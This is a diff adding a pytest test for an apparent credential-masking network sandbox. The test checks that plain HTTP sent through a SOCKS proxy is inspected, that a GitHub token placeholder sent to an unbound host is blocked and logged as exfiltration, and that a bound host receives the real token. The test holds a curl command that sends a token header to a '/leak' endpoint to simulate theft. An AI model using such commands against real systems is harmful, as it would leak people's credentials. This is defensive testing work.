@@ -1109,3 +1109,31 @@ def test_http_rules_refuse_a_host_whose_tls_is_not_terminated(launcher, ws, test
     assert tls_server.got() == []
     blocked = [r for r in audit(ws) if r.get("decision") == "block" and r.get("port") == tls_server.port]
     assert blocked and "HTTP rules" in blocked[0]["reason"], audit(ws)
+
+
+def test_plain_http_inside_a_socks_tunnel_is_read_too(launcher, ws, test_ca, plain_server):
+    """Plain HTTP through SOCKS5 (or CONNECT, or a redirected port 80) is read like proxied HTTP:
+    a placeholder on its way to an unbound host is blocked there too, and a bound host gets the
+    value when plaintext is allowed."""
+    gh = real("gh")
+    other = Server()
+    try:
+        settings = srt(ws, [plain_server.hostport, other.hostport], tls=False,
+                       env_vars=[mask_env("GH_TOKEN", hosts=(f"localhost",))], plaintext=True)
+        bound_url = f"http://localhost:{plain_server.port}/bound"
+        script = (f'{CURL} -x "$ALL_PROXY" -o /dev/null -w "leak=%{{http_code}}\\n" {other.url("/leak")} '
+                  '-H "X-Token: $GH_TOKEN"\n'
+                  f'{CURL} -x "$ALL_PROXY" -o /dev/null -w "bound=%{{http_code}}\\n" {bound_url} '
+                  '-H "Authorization: Bearer $GH_TOKEN"')
+        settings["network"]["allowedDomains"].append(f"localhost:{plain_server.port}")
+        p = cred_run(ws, script, settings, env_extra={"GH_TOKEN": gh})
+        assert one(p.stdout, "leak=") == "403", (out_of(p), audit(ws))
+        assert other.hits == []
+        assert one(p.stdout, "bound=") == "200", (out_of(p), audit(ws))
+        assert [h["headers"].get("authorization") for h in plain_server.hits] == [f"Bearer {gh}"]
+        socks = [r for r in audit(ws) if r.get("proto") == "http" and r.get("port") in (other.port, plain_server.port)]
+        assert [(r["port"], r["decision"], bool(r.get("exfiltration"))) for r in socks] == \
+            [(other.port, "block", True), (plain_server.port, "allow", False)], audit(ws)
+        assert_no_leak(ws, p, gh)
+    finally:
+        other.close()
